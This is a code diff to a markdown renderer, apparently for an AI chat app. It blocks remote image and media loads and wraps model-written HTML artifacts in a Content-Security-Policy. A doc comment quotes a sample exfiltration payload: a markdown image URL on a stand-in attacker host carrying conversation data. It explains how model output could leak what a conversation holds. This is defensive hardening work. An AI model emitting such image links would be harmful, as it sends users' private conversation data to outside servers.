@@ -98,18 +98,51 @@ function installHooks(): void {
         node.setAttribute('data-external', 'true');
         if (!node.hasAttribute('title')) node.setAttribute('title', href);
       }
-    } else if (node.nodeName === 'IMG') {
-      node.setAttribute('loading', 'lazy');
-      node.setAttribute('referrerpolicy', 'no-referrer');
+    } else {
+      blockRemoteLoads(node);
+      if (node.nodeName === 'IMG') {
+        node.setAttribute('loading', 'lazy');
+        node.setAttribute('referrerpolicy', 'no-referrer');
+      }
     }
   });
+}
+
+/** Attributes through which an element other than a link loads a URL by itself. */
+const LOAD_ATTRS = ['src', 'poster', 'background', 'href', 'xlink:href', 'data'];
+
+/** A URL that leaves the app: http(s), or protocol-relative ("//host/x"). */
+const REMOTE = /^\s*(https?:|\/\/)/i;
+
+/**
+ * Removes every remote URL an element would load on its own (an image's or a video's src,
+ * a poster, a legacy background, an SVG image's href): model output and page text could
+ * otherwise send what the conversation holds to any server with no click (an answer
+ * ending in `![x](https://evil.example/?d=…)`). The URL is kept in data-blocked-src and,
+ * for images, shown in the title; nothing is fetched. (A "Load images" choice comes with
+ * the settings for it.)
+ */
+function blockRemoteLoads(node: Element): void {
+  for (const attr of LOAD_ATTRS) {
+    const v = node.getAttribute(attr);
+    if (v === null || !REMOTE.test(v)) continue;
+    node.removeAttribute(attr);
+    node.setAttribute('data-blocked-src', v);
+    if (node.nodeName === 'IMG') {
+      const alt = node.getAttribute('alt') ?? '';
+      node.setAttribute('alt', alt !== '' ? `${alt} (remote image not loaded)` : 'remote image not loaded');
+      node.setAttribute('title', `Remote image not loaded: ${v}`);
+    }
+  }
 }
 
 /**
  * Renders GitHub-flavoured markdown to sanitized HTML (a string for innerHTML).
  *
  * Scripts, event-handler attributes, javascript: URLs, styles, forms and their controls,
- * frames, `<meta>` (so no refresh), `<base>` and `<link>` are removed by DOMPurify.
+ * frames, `<meta>` (so no refresh), `<base>` and `<link>` are removed by DOMPurify, and
+ * remote URLs that images, media and SVG would load by themselves are dropped (see
+ * blockRemoteLoads): rendering never contacts another server.
  * Task-list items ("- [ ]", "- [x]", and the task-plan markers "[✓]", "[✗]", "[~]", "[→]")
  * become `<li class="task task-done|task-todo|task-progress">` with a marker span. Links
  * and image-map areas keep their href, lose any target and get rel="noopener noreferrer";
@@ -143,4 +176,21 @@ export function renderCode(code: string, language: string): string {
   if (html !== null) return sanitize(html);
   const esc = code.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
   return `<pre class="code-plain"><code>${esc}</code></pre>`;
+}
+
+/**
+ * The Content-Security-Policy an HTML artifact's sandboxed frame runs under: it may show
+ * its own inline styles and data:/blob: images and fonts, and load nothing from anywhere
+ * (the frame's sandbox already stops scripts, forms and navigation).
+ */
+export const HTML_ARTIFACT_CSP = "default-src 'none'; img-src data: blob:; style-src 'unsafe-inline'; font-src data:";
+
+/**
+ * Returns an HTML artifact's source with a `<meta http-equiv="Content-Security-Policy">`
+ * of HTML_ARTIFACT_CSP in front, for the frame's srcdoc: a model-written page with
+ * `<img src="https://…">` or a CSS `url(…)` then contacts no server, in the window (which
+ * has no CSP of its own) as in browser mode. Content after the meta cannot loosen it.
+ */
+export function offlineHTML(content: string): string {
+  return `<meta http-equiv="Content-Security-Policy" content="${HTML_ARTIFACT_CSP}">${content}`;
 }
